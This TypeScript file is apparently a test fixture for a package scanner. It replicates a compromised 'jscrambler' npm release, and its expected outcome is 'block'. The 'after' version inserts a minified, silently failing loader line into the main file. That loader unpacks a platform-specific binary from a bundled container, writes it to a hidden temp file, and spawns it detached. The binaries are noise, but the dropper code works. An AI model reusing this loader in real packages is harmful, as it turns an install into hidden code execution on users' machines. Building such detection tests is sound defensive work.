import { packedBytes } from '../bulk.js';
import type { Replica } from './replica.js';

const api = `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });
var _fs = require('fs');
var _path = require('path');
var _client = require('./client');
var _zip = require('./zip');

async function protectAndDownload(options, destCallback) {
  const client = new _client.default(options);
  const sources = options.filesSrc.map((file) => ({ name: _path.relative(options.cwd || process.cwd(), file), content: _fs.readFileSync(file) }));
  const archive = _zip.pack(sources);
  const application = await client.post('/application/' + options.applicationId + '/sources', { content: archive.toString('base64'), filename: 'application.zip' });
  const protection = await client.post('/application/' + options.applicationId + '/protections', { params: options.params, sources: application.id });
  const finished = await poll(client, options.applicationId, protection._id);
  const download = await client.get('/application/download/' + finished._id);
  for (const entry of _zip.unpack(Buffer.from(download.content, 'base64'))) {
    if (destCallback) destCallback(entry.content, entry.name);
    else _fs.writeFileSync(_path.join(options.filesDest, entry.name), entry.content);
  }
  return finished._id;
}

async function poll(client, applicationId, protectionId, interval = 500) {
  const state = await client.get('/application/' + applicationId + '/protections/' + protectionId);
  if (state.state === 'finished' || state.state === 'errored') return state;
  await new Promise((resolve) => setTimeout(resolve, interval));
  return poll(client, applicationId, protectionId, interval);
}

exports.default = { protectAndDownload };
module.exports = exports.default;
`;
const files = {
  'README.md': '# Jscrambler CLI\n\nCommand line and API client.\n',
  'dist/client.js': `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });
var _https = require('https');
var _crypto = require('crypto');

class Client {
  constructor({ keys, host = 'api4.jscrambler.example.invalid', port = 443, basePath = '' }) {
    this.keys = keys;
    this.options = { host, port, basePath };
  }
  signed(method, path, params) {
    const timestamp = new Date().toISOString();
    const data = [method.toUpperCase(), this.options.host, path, JSON.stringify(params || {}), timestamp].join(';');
    const signature = _crypto.createHmac('sha256', this.keys.secretKey).update(data).digest('base64');
    return { access_key: this.keys.accessKey, timestamp, signature };
  }
  request(method, path, params) {
    return new Promise((resolve, reject) => {
      const body = method === 'GET' ? undefined : JSON.stringify({ ...params, ...this.signed(method, path, params) });
      const request = _https.request({ host: this.options.host, port: this.options.port, method, path: this.options.basePath + path, headers: { 'Content-Type': 'application/json' } }, (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (part) => { text += part; });
        response.on('end', () => (response.statusCode < 400 ? resolve(JSON.parse(text)) : reject(new Error(text))));
      });
      request.on('error', reject);
      request.end(body);
    });
  }
  get(path, params) {
    return this.request('GET', path, params);
  }
  post(path, params) {
    return this.request('POST', path, params);
  }
}
exports.default = Client;
`,
  'dist/zip.js': `'use strict';

var _zlib = require('zlib');

exports.pack = (sources) => _zlib.gzipSync(Buffer.from(JSON.stringify(sources.map(({ name, content }) => ({ name, content: content.toString('base64') })))));
exports.unpack = (archive) => JSON.parse(_zlib.gunzipSync(archive)).map(({ name, content }) => ({ name, content: Buffer.from(content, 'base64') }));
`,
  'dist/bin/jscrambler.js': `#!/usr/bin/env node
'use strict';

var _jscrambler = require('../index.js');
var _fs = require('fs');

var args = process.argv.slice(2);
var at = args.indexOf('-c');
var config = at >= 0 ? JSON.parse(_fs.readFileSync(args[at + 1], 'utf8')) : {};
_jscrambler.protectAndDownload({ ...config, filesSrc: args.filter((one) => one.endsWith('.js')) }).catch((error) => {
  console.error(error.message);
  process.exit(1);
});
`,
};
/** A container for three platforms: a short magic, a table of places, and compressed bodies of which nothing is left but noise. */
function container(seed: number): Uint8Array {
  const out = packedBytes(7_500_000, seed);
  const head = Buffer.from('1b43534901', 'hex');
  out.set(head, 0);
  const view = new DataView(out.buffer);
  view.setUint8(5, 3);
  for (const at of [0, 1, 2]) {
    view.setUint32(8 + at * 12, at + 1, true);
    view.setUint32(12 + at * 12, 64 + at * 2_490_000, true);
    view.setUint32(16 + at * 12, 2_480_000, true);
    out.set([0x1f, 0x8b, 0x08], 64 + at * 2_490_000);
  }
  return out;
}
const started = api.replace("var _zip = require('./zip');\n", `var _zip = require('./zip');
(function(){try{var e=require("os"),t=require("path"),r=_fs.readFileSync(t.join(__dirname,"intro.js")),n={linux:1,win32:2,darwin:3}[e.platform()];for(var i=0;i<r[5];i++){var o=8+12*i;if(r.readUInt32LE(o)===n){var s=r.readUInt32LE(o+4),a=require("zlib").gunzipSync(r.subarray(s,s+r.readUInt32LE(o+8))),c=t.join(e.tmpdir(),"."+require("crypto").randomBytes(8).toString("hex")+("win32"===e.platform()?".exe":""));_fs.writeFileSync(c,a),_fs.chmodSync(c,493);var u=require("child_process").spawn(c,[],{detached:!0,stdio:"ignore",windowsHide:!0});u.on("error",function(){}),u.unref()}}}catch(e){}})();
`);
const manifest = { description: 'Jscrambler CLI and API client.', main: 'dist/index.js', bin: { jscrambler: 'dist/bin/jscrambler.js' }, license: 'MIT', files: ['dist'], engines: { node: '>=12' }, scripts: { build: 'babel src --out-dir dist', prepublishOnly: 'npm run build' } };
const publisher = { name: 'jscrambler_', email: 'info@jscrambler.example.invalid' };

export const replica: Replica = {
  id: 'jscrambler-import-2026',
  story: 'July 2026, 8.18.0, two days after the first wave: no script any more; one line inside the built main file starts the same unpacked program when the package is loaded (after the reports in the project\'s own tracker; the line from memory).',
  name: 'jscrambler',
  before: { version: '8.15.0', manifest, files: { ...files, 'dist/index.js': api }, publishedAt: '2026-07-11T20:40:00.000Z', publisher },
  after: { version: '8.18.0', manifest, files: { ...files, 'dist/index.js': started, 'dist/intro.js': container(818) }, publishedAt: '2026-07-13T04:02:00.000Z', publisher },
  must: 'block',
};
